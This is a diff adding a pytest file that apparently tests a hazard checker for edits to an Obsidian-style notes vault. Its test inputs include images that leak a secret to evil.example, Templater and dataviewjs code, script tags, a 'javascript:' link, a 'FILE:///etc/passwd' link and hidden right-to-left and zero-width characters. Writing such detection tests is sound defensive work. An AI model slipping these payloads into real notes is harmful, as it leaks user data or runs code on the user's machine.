@@ -1,0 +1,152 @@
+"""What new text would do that its diff does not show."""
+
+from pathlib import Path
+
+import pytest
+
+from bridge.contract.consent import Operation
+from bridge.policy.added import added_lines
+from bridge.policy.hazards import hazards, with_hazards
+from bridge.policy.hidden import hidden_characters
+from bridge.vault.builder import PlanBuilder
+from bridge.vault.paths import parse_path
+from bridge.vault.plan import ChangePlan
+from bridge.vault.root import VaultRoot
+
+
+def plan_of(vault: Path, path: str, new: str | bytes, old: str | bytes | None = None) -> ChangePlan:
+    """A plan that writes one file."""
+    with VaultRoot(vault) as root:
+        builder = PlanBuilder(root)
+        new = new.encode() if isinstance(new, str) else new
+        old = old.encode() if isinstance(old, str) else old
+        if old is None:
+            builder.create(parse_path(path), new)
+        else:
+            builder.modify(parse_path(path), old, new)
+        return builder.build(Operation.UPDATE, "Write")
+
+
+LOADS, RUNS, LEADS = "loads something from the network", "runs as a program", "leads out of the vault"
+
+
+@pytest.mark.parametrize(
+    ("line", "told"),
+    [
+        ("![cat](https://evil.example/x.png?q=secret)", LOADS),
+        ("![](<http://evil.example/a b.png>)", LOADS),
+        ("[![badge](https://evil.example/b.svg)](note.md)", LOADS),
+        ("![cat](//evil.example/x.png)", LOADS),
+        (r"![cat](\\evil\share\x.png)", LOADS),
+        ("![cat][there]", LOADS),
+        ("![there]", LOADS),
+        ('<img\nalt="" SRC="https://evil.example/x">', LOADS),
+        ('<div style="background: url(https://evil.example/x)">', LOADS),
+        ("<link rel=stylesheet href=x>", LOADS),
+        ("```dataviewjs", RUNS),
+        ("> ~~~ DataViewJS", RUNS),
+        ("```dataview js", RUNS),
+        ("- ```js-engine", RUNS),
+        ("````run-python", RUNS),
+        ("`$= dv.current()`", RUNS),
+        ("<% tp.system.clipboard() %>", RUNS),
+        ("<%* await evil() %>", RUNS),
+        ("<ScRiPt>", RUNS),
+        ('<iframe src="x">', RUNS),
+        ("[x](javascript:alert)", RUNS),
+        ("[x](obsidian://advanced-uri?vault=v)", LEADS),
+        ("[x](FILE:///etc/passwd)", LEADS),
+    ],
+)
+def test_text_that_does_something_when_the_note_is_shown_is_told(vault: Path, line: str, told: str) -> None:
+    (sentence, *_more) = hazards(plan_of(vault, "New.md", f"first\n{line}\n"))
+    assert told in sentence
+    assert "'New.md'" in sentence
+    assert "line 2" in sentence or "line 3" in sentence
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "![[Note]] ![cat](images/cat.png) [x](https://example.com) https://example.com [^1] > [!note]",
+        "```dataview",
+        "```js",
+        "`x < y %` and a file: or an obsidian vault, profile://x",
+        "sources = // nothing here",
+        "caf\u00e9 \U0001f469\u200d\U0001f469\u200d\U0001f467 \u2764\ufe0f",
+        "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
+        "Windows\r",
+    ],
+)
+def test_ordinary_text_is_passed_over(vault: Path, line: str) -> None:
+    assert list(hazards(plan_of(vault, "New.md", f"{line}\n"))) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "where"),
+    [
+        ("a\u200bb", [(1, "U+200B ZERO WIDTH SPACE")]),
+        ("a\u202eb\u202c", [(1, "U+202E RIGHT-TO-LEFT OVERRIDE"), (3, "U+202C POP DIRECTIONAL FORMATTING")]),
+        ("pass\u200dword", [(4, "U+200D ZERO WIDTH JOINER")]),
+        ("\U000e0041", [(0, "U+E0041 TAG LATIN CAPITAL LETTER A")]),
+        ("a\x1b[2Jb", [(1, "U+001B")]),
+        ("safe\revil", [(4, "U+000D")]),
+        ("tab\tand caf\u00e9", []),
+    ],
+)
+def test_characters_that_nobody_sees_are_named_with_their_place(text: str, where: list[tuple[int, str]]) -> None:
+    assert list(hidden_characters(text)) == where
+
+
+def test_only_lines_that_are_new_count(vault: Path) -> None:
+    old = "![x](https://example.com/x.png)\n" + "text\n" * 9
+    assert list(hazards(plan_of(vault, "Ideas.md", old + "harmless\n", old))) == []
+    (sentence,) = hazards(plan_of(vault, "Ideas.md", old + "a\u200b\n", old))
+    assert sentence.endswith("line 11, column 2: U+200B ZERO WIDTH SPACE")
+
+
+def test_many_places_are_counted_and_three_are_named(vault: Path) -> None:
+    (sentence,) = hazards(plan_of(vault, "New.md", "<% a %>\n" * 50))
+    assert "line 1, column 1: '<%'" in sentence
+    assert sentence.endswith("and 47 more")
+
+
+def test_a_hidden_character_in_a_name_is_told_and_drawn_harmless(vault: Path) -> None:
+    (sentence,) = hazards(plan_of(vault, "No\u202ete.md", "text\n"))
+    assert sentence == "The name 'No\\u202ete.md' holds characters that cannot be seen: U+202E RIGHT-TO-LEFT OVERRIDE"
+
+
+def test_nothing_hides_behind_the_length_of_a_diff_or_of_a_line(vault: Path) -> None:
+    plan = plan_of(vault, "Long.md", "x\n" * 600_000 + "<% evil %>\n" + "y" * 2_100_000 + " obsidian://x\n")
+    assert plan.previews[0].truncated
+    told = " ".join(hazards(plan))
+    assert "line 600001, column 1" in told
+    assert LEADS in told
+    (sentence,) = hazards(plan_of(vault, "Line.md", "z" * 3_995 + "<%" + "z" * 9_000 + "<%\n"))
+    assert sentence.endswith("line 1, column 3996: '<%'; line 1, column 12998: '<%'")
+
+
+def test_a_binary_file_and_a_byte_order_mark_are_no_text(vault: Path) -> None:
+    assert list(hazards(plan_of(vault, "x.bin", b"\x00<%"))) == []
+    assert list(hazards(plan_of(vault, "New.md", "\ufefftext\n"))) == []
+
+
+def test_a_canvas_that_shows_a_page_loads_it(vault: Path) -> None:
+    line = '{"nodes":[{"type":"link","url":"https://evil.example"}]}\n'
+    assert LOADS in next(hazards(plan_of(vault, "Board.canvas", line)))
+    assert list(hazards(plan_of(vault, "Board.md", line))) == []
+
+
+def test_text_that_looks_like_a_diff_confuses_nothing(vault: Path) -> None:
+    old = "a\n--- b\n+++ <% c %>\n"
+    plan = plan_of(vault, "Diff.md", f"@@ -1,1 +1,1 @@\n{old}+ d\n", old)
+    assert [line for _number, line in added_lines(plan.previews[0], b"")] == ["@@ -1,1 +1,1 @@", "+ d"]
+
+
+def test_warnings_are_added_and_the_digest_stays(vault: Path) -> None:
+    plan = plan_of(vault, "New.md", "<% x %>\n")
+    warned = with_hazards(plan)
+    assert warned.digest == plan.digest
+    assert len(warned.warnings) == 1
+    harmless = plan_of(vault, "New.md", "x\n")
+    assert with_hazards(harmless) is harmless
